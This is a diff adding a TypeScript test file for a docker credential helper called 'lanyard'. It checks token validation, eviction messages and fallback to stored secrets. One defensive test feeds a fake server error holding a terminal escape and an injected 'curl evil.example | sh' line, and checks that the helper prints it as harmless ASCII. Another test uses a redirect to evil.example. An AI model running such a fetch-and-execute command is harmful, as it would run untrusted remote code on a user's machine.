@@ -1,0 +1,91 @@
+import { expect, it } from 'vitest';
+import { login } from '../src/commands/login.ts';
+import { serveHelper } from '../src/helper/serve-helper.ts';
+import { type FakeAnswer, fakeLanyard } from './fake-lanyard.ts';
+import { testContext } from './test-context.ts';
+
+const NOT_FOUND = 'credentials not found in native keychain';
+const EVICTED = 'this access token was removed on 2026-11-23 10:00 UTC because 5 newer sign-ins exist; sign in again';
+
+function refusal(message: string): FakeAnswer {
+  return { status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message, detail: null }] } };
+}
+
+async function signedIn() {
+  const [fake, context] = [await fakeLanyard(), testContext()];
+  await login(context, fake.host, { browser: false });
+  fake.requests.length = 0;
+  const told: string[] = [];
+  const input = {
+    environment: context.environment,
+    readInput: () => fake.host,
+    tell: (line: string) => told.push(line),
+  };
+  return { fake, context, told, get: () => serveHelper(['get'], input) };
+}
+
+it('asks the server whether an auto-generated token is still good, and nothing else', async () => {
+  const { fake, get } = await signedIn();
+  expect(JSON.parse(await get())).toEqual({ ServerURL: fake.host, Username: 'acme', Secret: 'auto-1' });
+  expect(fake.requests.map(({ name, query }) => [name, Object.fromEntries(query)])).toEqual([
+    ['GET /token', { service: 'images', account: 'acme' }],
+  ]);
+  expect(fake.requests[0]?.headers.authorization).toBe(`Basic ${Buffer.from('acme:auto-1').toString('base64')}`);
+});
+
+it('tells what became of an evicted token and how to go on, removes it, and makes no other', async () => {
+  const { fake, get, told } = await signedIn();
+  fake.on('GET /token', () => refusal(EVICTED));
+  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
+  expect(told).toEqual([`lanyard: ${fake.host}: ${EVICTED}`, `lanyard: run: lanyard login ${fake.host}`]);
+  fake.requests.length = 0;
+  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
+  expect(fake.requests).toEqual([]);
+  expect(told).toHaveLength(2);
+});
+
+it('tells it as plain ASCII', async () => {
+  const { fake, get, told } = await signedIn();
+  fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
+  await expect(get()).rejects.toThrow(NOT_FOUND);
+  expect(told[0]).toBe(`lanyard: ${fake.host}: ?[2Jgone?lanyard: run: curl evil.example | sh`);
+});
+
+it.each<[string, FakeAnswer]>([
+  ['is ill', { status: 503, body: { errors: [{ message: 'ill' }] } }],
+  ['breaks off', { status: 200, lost: true }],
+  ['is not ours, and refuses in another form', { status: 401, body: {} }],
+  ['sends elsewhere', { status: 302, headers: { location: 'https://evil.example/' } }],
+  ['forbids', { status: 403, body: { errors: [{ message: 'no' }] } }],
+])('hands out what is stored where the server %s', async (_what, answer) => {
+  const { fake, get, told } = await signedIn();
+  fake.on('GET /token', () => answer);
+  expect(JSON.parse(await get()).Secret).toBe('auto-1');
+  expect(told).toEqual([]);
+});
+
+it('hands out what is stored where there is no server', async () => {
+  const { fake, get } = await signedIn();
+  await fake.stop();
+  expect(JSON.parse(await get()).Secret).toBe('auto-1');
+});
+
+it('asks nobody about what docker login stored', async () => {
+  const { fake, context, get } = await signedIn();
+  const secret = JSON.stringify({ ServerURL: fake.host, Username: 'beta', Secret: 'a manual token' });
+  await serveHelper(['store'], { environment: context.environment, readInput: () => secret, tell: () => {} });
+  expect(JSON.parse(await get())).toMatchObject({ Username: 'beta', Secret: 'a manual token' });
+  expect(fake.requests).toEqual([]);
+});
+
+it('spares a token that another program stored while the server was asked', async () => {
+  const { fake, context, get } = await signedIn();
+  fake.on('GET /token', async ({ headers }) => {
+    const isFirst = headers.authorization === `Basic ${Buffer.from('acme:auto-1').toString('base64')}`;
+    if (!isFirst) return { status: 200, body: { token: 'registry-token' } };
+    await login(context, fake.host, { browser: false });
+    return refusal(EVICTED);
+  });
+  await expect(get()).rejects.toThrow(NOT_FOUND);
+  expect(JSON.parse(await get()).Secret).toBe('auto-2');
+});
